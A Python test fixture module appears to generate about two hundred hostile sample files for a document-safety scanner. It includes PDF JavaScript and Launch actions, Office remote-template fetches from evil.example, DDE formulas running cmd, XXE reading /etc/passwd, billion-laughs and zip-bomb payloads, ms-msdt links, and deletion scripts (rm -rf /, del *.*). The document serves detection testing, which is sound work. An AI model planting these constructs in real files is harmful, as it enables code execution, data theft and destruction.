"""Files that act by themselves, hide that they do, or are not what they say: two hundred, each with the name it comes under."""

import io
import zipfile
import zlib
from collections.abc import Iterator

from pypdf import PdfReader, PdfWriter

from tests.formats.honest import with_formula
from tests.formats.making import (
    SHEET,
    WORD,
    W,
    compound,
    doc,
    field,
    ofd,
    office,
    packed_pdf,
    pdf,
    picture,
    record,
    relation,
    relations,
    revised_pdf,
    stream,
    types,
    words,
    xls,
    zipped,
)

Files = Iterator[tuple[str, bytes]]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ\x90\x00\x03" + bytes(60)
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "External"><!ENTITY b SYSTEM "file:///etc/passwd">]>'

ACTIONS = {
    "script": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "script-in-stream": b"<</S/JavaScript/JS 12 0 R>>",
    "launch": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "submit": b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>",
    "import": b"<</S/ImportData/F(\\\\\\\\evil\\\\share\\\\a.fdf)>>",
    "far": b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>",
    "embedded": b"<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>",
    "rendition": b"<</S/Rendition/OP 0>>",
    "movie": b"<</S/Movie/T(a)>>",
    "sound": b"<</S/Sound/Sound 12 0 R>>",
    "show": b"<</S/RichMediaExecute>>",
    "then": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>",
}
MORE = {12: stream(b"app.alert(1)")}


def pdfs() -> Files:
    for name, action in ACTIONS.items():
        places = {
            "open": {"catalogue": b"/OpenAction " + action},
            "open-far": {"catalogue": b"/OpenAction 13 0 R"},
            "page": {"page": b"/AA<</O " + action + b">>"},
            "link": {"page": b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 13 0 R>>]"},
            "close": {"catalogue": b"/AA<</WC 13 0 R>>"},
        }
        for place, where in places.items():
            yield f"{name}-{place}.pdf", pdf(**where, others={**MORE, 13: action})  # type: ignore[arg-type]
    yield from _disguised_pdfs()
    yield from _odd_pdfs()


def _disguised_pdfs() -> Files:
    for name in ("script", "launch", "submit"):
        action = ACTIONS[name]
        plain = pdf(catalogue=b"/OpenAction " + action)
        spelt = {"script": b"/Java#53cript", "launch": b"/L#61unch", "submit": b"/Submit#46orm"}[name]
        yield f"{name}-spelt.pdf", plain.replace(action.split(b"/")[2].partition(b"(")[0].join((b"/", b"")), spelt)
        yield f"{name}-packed.pdf", packed_pdf(action)
        yield f"{name}-old.pdf", revised_pdf(plain, {1: b"<</Type/Catalog/Pages 2 0 R>>"})
        yield f"{name}-new.pdf", revised_pdf(pdf(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>"})
        yield f"{name}-locked.pdf", _owner_locked(plain)
        yield f"{name}-beside.pdf", pdf() + b"20 0 obj\n" + action + b"\nendobj\n"
        yield f"{name}-doubled.pdf", pdf(catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]" + action[2:])
        yield f"{name}-after-a-line.pdf", pdf(catalogue=b"/OpenAction " + action, before=b"\r\n\r\n")
        yield f"{name}.jpg", plain


def _owner_locked(content: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    writer.encrypt("", owner_password="owner", algorithm="AES-256")
    sink = io.BytesIO()
    writer.write(sink)
    return sink.getvalue()


def _odd_pdfs() -> Files:
    form = b"/AcroForm<</Fields[]/XFA 12 0 R>>"
    script = zlib.compress(b'<xdp><script contentType="application/x-javascript">app.alert(1)</script></xdp>')
    yield "xfa.pdf", pdf(catalogue=form, others={12: stream(script, b"/Filter/FlateDecode")})
    yield "xfa-parts.pdf", pdf(catalogue=b"/AcroForm<</Fields[]/XFA[(a)12 0 R]>>", others=MORE)
    yield "names.pdf", pdf(catalogue=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>")
    yield "uri.pdf", pdf(catalogue=b"/OpenAction<</S/URI/URI(http://evil.example/)>>")
    yield "print.pdf", pdf(catalogue=b"/OpenAction<</S/Named/N/Print>>")
    for name, address in {"unc": b"\\\\\\\\evil\\\\share", "script": b"javascript:alert\\(1\\)", "store": b"ms-msdt:/id",
                          "file": b"file://evil/share/a"}.items():  # fmt: skip
        link = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(%s)>>>>]" % address
        yield f"link-{name}.pdf", pdf(page=link)
    for name, held in {"exe": PROGRAM, "html": b"<html><script>1</script>", "entities": DTD + b"<x>&a;</x>"}.items():
        files = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.xml)/EF<</F 12 0 R>>>>]>>>>"
        yield f"within-{name}.pdf", pdf(catalogue=files, others={12: stream(held, b"/Type/EmbeddedFile")})
    pin = b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<</F 12 0 R>>>>>>]"
    yield "pin.pdf", pdf(page=pin, others={12: stream(PROGRAM)})
    yield "show.pdf", pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]")
    yield "screen.pdf", pdf(page=b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]>>]")
    yield "elsewhere.pdf", pdf(others={12: stream(b"", b"/F(\\\\\\\\evil\\\\a)")})
    yield "borrowed.pdf", pdf(others={12: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a)/Page 0>>")})
    yield "locked.pdf", _user_locked()


def _user_locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    sink = io.BytesIO()
    writer.write(sink)
    return sink.getvalue()


def offices() -> Files:
    outside = {
        "template": relation("attachedTemplate", "http://evil.example/t.dotm"),
        "template-like-link": relation("attachedTemplate", "http://evil.example/hyperlink/t.dotm"),
        "template-on-a-share": relation("attachedTemplate", "file:///C:\\..\\\\evil\\t.dotm"),
        "template-of-a-server": relation("attachedTemplate", "file://evil/t.dotm"),
        "template-by-name": relation("attachedTemplate", "\\\\evil\\c$\\t.dotm"),
        "picture": relation("image", "\\\\evil\\a.png"),
        "picture-of-a-server": relation("image", "file://evil/a.png"),
        "picture-by-script": relation("image", "javascript:alert(1)"),
        "picture-on-a-drive-of-a-server": relation("image", "file:////evil/c$/a.png"),
        "object": relation("oleObject", "http://evil.example/a.html!"),
        "frame": relation("frame", "http://evil.example/"),
        "entity": relation("attachedTemplate", "http://evil.example/t", ' TargetMode="&#69;xternal"'),
        "sign": relation("attachedTemplate", "http://evil.example/>t"),
        "no-mode": relation("image", "http://evil.example/a.png", ""),
        "share": relation("image", "//evil/a.png", ""),
        "link-to-share": relation("hyperlink", "file://evil/share/a.exe"),
        "link-to-program": relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "link-to-script": relation("hyperlink", "javascript:alert(1)"),
        "false-link": relation("x/hyperlink", "http://evil.example/"),
        "chunk": relation("aFChunk", "a.rtf", ""),
    }
    for main, kind in ((WORD, "docx"), (SHEET, "xlsx")):
        for name, row in outside.items():
            yield f"{name}.{kind}", office(main, {"x/_rels/main.xml.rels": relations(row)})
        row = relations(outside["template"]).decode()
        yield (
            f"utf16.{kind}",
            office(main, {"x/_rels/a.rels": ('<?xml version="1.0" encoding="UTF-16"?>' + row).encode("utf-16")}),
        )
        yield f"entities.{kind}", office(main, {"x/main.xml": DTD + b"<w>&b;</w>"})
        yield f"laughs.{kind}", office(main, {"x/main.xml": _laughs()})
        yield f"entities-in-types.{kind}", zipped({"[Content_Types].xml": DTD + types(main)})
        for part, held in {"macros.bin": OLE, "media/a.png": PROGRAM, "embeddings/o.bin": OLE, "a.emf": OLE}.items():
            yield f"{part.replace('/', '-')}.{kind}", office(main, {f"x/{part}": held})
        inner = office(main, {"x/vbaProject.bin": OLE})
        yield f"inner.{kind}", office(main, {"x/embeddings/a.xlsx": inner})
        yield f"inner-zip.{kind}", office(main, {"x/embeddings/a.xlsx": zipped({"a.exe": PROGRAM})})
        for said in (
            "vnd.ms-office.vbaProject",
            "vnd.ms-office.activeX+xml",
            "vnd.ms-word.document.macroEnabled.main+xml",
        ):
            more = f'<Override PartName="/x/a.dat" ContentType="application/{said}"/>'
            yield f"{said}.{kind}", office(main, {"x/a.dat": b"\x01"}, more)
    yield from _fields()
    yield from _sheets()
    yield from _packages()


def _laughs() -> bytes:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{rows}]><x>&l8;</x>'.encode()


def _fields() -> Files:
    quoted = field("QUOTE 68 68 69 65 85 84 79")
    inner = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{quoted}<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r>'
    made = {
        "plain": field(r"DDEAUTO c:\\windows\\system32\\cmd.exe"),
        "split": field("D", "DE", "AU", "TO c:\\\\cmd.exe"),
        "small": field(' \u00a0ddeauto "c:\\\\cmd.exe"'),
        "quote": inner + '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        "open": '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>',
        "simple": '<w:fldSimple w:instr=" DDEAUTO cmd /c"/>',
        "deleted": field("")
        .replace("instrText", "delInstrText")
        .replace("<w:delInstrText></", "<w:delInstrText>DDE a</"),
        "within": field("IF 1 = 1 ").replace("</w:instrText></w:r>", "</w:instrText></w:r>" + field("DDEAUTO cmd"), 1),
        "link": field("LINK Excel.Sheet.8 \\\\\\\\evil\\\\a.xls"),
        "text": field("INCLUDETEXT http://evil.example/a.docx"),
        "image": field('INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"'),
    }
    for name, said in made.items():
        yield f"field-{name}.docx", office(parts={"word/document.xml": words(said)})
    for part in ("header1", "footnotes", "comments", "glossary/document"):
        yield f"field-{part.replace('/', '-')}.docx", office(parts={f"word/{part}.xml": words(made["plain"])})
    strict = words(made["plain"]).replace(W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")
    yield "field-strict.docx", office(parts={"word/document.xml": strict})
    yield "chunk.docx", office(parts={"word/document.xml": words('<w:altChunk r:id="r1" xmlns:r="x"/>')})


def _sheets() -> Files:
    for name, formula in {
        "cmd": "cmd|'/c calc'!A0", "quoted": "'cmd'|'/c calc'!A0", "within": "1+cmd|' /c a'!_", "service": "_xlfn.WEBSERVICE(A1)",
        "call": 'CALL("kernel32","WinExec","JCJ","calc",0)', "register": 'REGISTER.ID("a","b")', "exec": 'EXEC("calc")',
        "rtd": 'RTD("a",,"b")',
    }.items():  # fmt: skip
        for tag in ("f", "definedName"):
            text = formula.replace("&", "&amp;")
            yield (
                f"formula-{name}-{tag}.xlsx",
                office(SHEET, {"xl/a.xml": f"<sheet><{tag}>{text}</{tag}></sheet>".encode()}),
            )
    yield (
        "dde.xlsx",
        office(SHEET, {"xl/externalLinks/e.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
    )
    yield "ole.xlsx", office(SHEET, {"xl/externalLinks/e.xml": b"<externalLink><oleLink/></externalLink>"})
    for said in ("vnd.ms-excel.macrosheet+xml", "vnd.ms-excel.intlmacrosheet+xml",
                 "vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"):  # fmt: skip
        yield f"{said}.xlsx", office(SHEET, more_types=f'<Override PartName="/xl/a" ContentType="application/{said}"/>')


def _packages() -> Files:
    for name, parts in {
        "up": {"../../a.xml": b"<x/>"}, "twice": {"x/A.xml": b"<x/>", "x/a.xml": b"<y/>"},
        "bomb": {"x/a.xml": b"0" * 50_000_000}, "many": {f"x/{n}.xml": b"" for n in range(2001)},
    }.items():  # fmt: skip
        yield f"{name}.docx", office(parts=parts)
    for program in ("Package", "Excel.Sheet.8", "Equation.3.exe", "htmlfile"):
        yield f"{program}.docx", with_formula(program)
    yield "formula-program.docx", with_formula("Equation.3", PROGRAM)
    yield "formula-shared.docx", with_formula('Equation.3" x:id="rId1"/><o:OLEObject ProgID="Package')
    yield "method.docx", zipped({"[Content_Types].xml": types(WORD)}, zipfile.ZIP_BZIP2)
    locked = bytearray(office())
    central = locked.index(b"PK\x01\x02")
    locked[6] |= 1
    locked[central + 8] |= 1
    yield "locked.docx", bytes(locked)
    yield "a.jar", zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})
    yield "a.docx", zipped({"a.exe": PROGRAM})
    yield "cut.docx", office()[:-30]


def old_offices() -> Files:
    for name, more in {
        "macros": {"Macros/VBA/dir": b"x"}, "project": {"_VBA_PROJECT_CUR/VBA/dir": b"x"}, "object": {"ObjectPool/_1/\x01Ole10Native": b"x"},
        "controls": {"ObjectPool/_2/contents": b"x"},
    }.items():  # fmt: skip
        for ending in ("doc", "wps", "docx"):
            yield f"{name}.{ending}", doc(more=more)
        yield f"{name}.xls", xls(more=more)
    yield "dde.wps", doc("前\x13 DDEAUTO c:\\\\cmd.exe \x14!\x15后\r")
    yield "dde-nested.wps", doc("\x13\x13QUOTE 68 68 69\x15 c:\\cmd\x15\r")
    yield "template.doc", doc(template="http://evil.example/t.dotm")
    yield "template-share.doc", doc(template="\\\\evil\\t.dot")
    yield "locked.doc", doc(flags=0x0300)
    yield "macro-sheet.xls", xls(sheet=1)
    yield "module.et", xls(sheet=6)
    yield "locked.et", xls(record(0x2F, bytes(6)))
    yield "linked.xls", xls(record(0x1AE, b"\x01\x00\x05\x00\x01cmd|"))
    yield "connected.xls", xls(record(0x876, bytes(20)))
    yield "embedded.xls", xls(more={"MBD0001/\x01Ole": b"x"})
    yield "locked.xlsx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})
    yield "a.msi", compound({"!Tables": b"x"})
    yield "a.doc", OLE


def ofds() -> Files:
    click = '<ofd:Action Event="{}">{}</ofd:Action>'
    for name, actions in {
        "opens": click.format("DO", '<ofd:URI URI="http://evil.example/"/>'), "page": click.format("PO", '<ofd:URI URI="http://a"/>'),
        "sound": click.format("CLICK", '<ofd:Sound ResourceID="3"/>'), "movie": click.format("CLICK", '<ofd:Movie ResourceID="3"/>'),
        "file": click.format("CLICK", '<ofd:GotoA AttachID="3"/>'), "script": click.format("CLICK", '<ofd:URI URI="javascript:a()"/>'),
        "share": click.format("CLICK", '<ofd:URI URI="file://evil/share"/>'),
    }.items():  # fmt: skip
        yield f"{name}.ofd", ofd(actions=actions)
    for name, held in {
        "Attachs/a.exe": PROGRAM, "Attachs/a.xml": PROGRAM, "Attachs/a.js": b"1", "Attachs/a.zip": zipped({"a": b"b"}),
        "Attachs/a.doc": OLE, "Doc_0/a.xml": DTD + b"<x>&a;</x>", "Doc_0/Attachs.xml": b"<a><FileLoc>http://evil/a</FileLoc></a>",
        "../a.xml": b"<x/>", "Encryptions.xml": b"<x/>",
    }.items():  # fmt: skip
        yield f"{name.rpartition('/')[2]}-within.ofd", ofd({name: held})


def others() -> Files:
    huge = bytearray(picture("PNG"))
    huge[16:24] = b"\x00\x00\xea\x60\x00\x00\xea\x60"
    yield "huge.png", bytes(huge)
    yield "cut.jpg", picture("JPEG", (900, 900))[:-900]
    yield "cut.png", picture("PNG", (300, 300))[:-200]
    yield "cut.webp", picture("WEBP", (300, 300))[:-200]
    yield "cut.heic", picture("HEIF", (300, 300))[:-200]
    yield "head.gif", b"GIF89a" + b"0" * 100
    yield "head.tif", b"II*\x00\x08\x00\x00\x00" + b"\xff" * 40
    yield "large.bmp", b"BM" + bytes(12) + b"\x28\x00\x00\x00" + b"\xff\xff\x00\x00" * 2 + bytes(40)
    page = b"<html><script>alert(1)</script></html>"
    for ending in ("jpg", "txt", "doc", "pdf", "html"):
        yield f"page.{ending}", page
        yield f"program.{ending}", PROGRAM
    yield from {
        "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", "drawing.png": b"\xef\xbb\xbf <SVG/>",
        "rich.doc": rb"{\rtf1{\object\objautlink}}", "rich.txt": rb"{\rtf1}", "web.doc": b"MIME-Version: 1.0\r\n\r\n",
        "a.bat": b"del *.*", "batch.txt": b"@echo off\r\ndel *.*", "a.vbs": b"MsgBox 1", "a.js": b"alert(1)", "a.ps1": b"iex 1",
        "shell.txt": b"#!/bin/sh\nrm -rf /", "a.hta": b"<hta:application>", "a.url": b"[InternetShortcut]\r\nURL=file://evil/a",
        "a.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "shortcut.txt": b"[InternetShortcut]\r\nURL=http://evil.example",
        "a.xml": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?>", "a.csv": b"=cmd|'/c calc'!A0",
        "a.rar": b"Rar!\x1a\x07\x00", "a.7z": b"7z\xbc\xaf\x27\x1c", "a.gz": b"\x1f\x8b\x08", "a.elf": b"\x7fELF\x02",
        "a.iqy": b"WEB\n1\nhttp://evil.example/", "a.slk": b"ID;P\nE", "wide.txt": "<html><script>".encode("utf-16"),
        "bytes.txt": b"\x00\x01\x02\xff",
    }.items()  # fmt: skip


def hostile() -> list[tuple[str, bytes]]:
    """All of them."""
    return [*pdfs(), *offices(), *old_offices(), *ofds(), *others()]
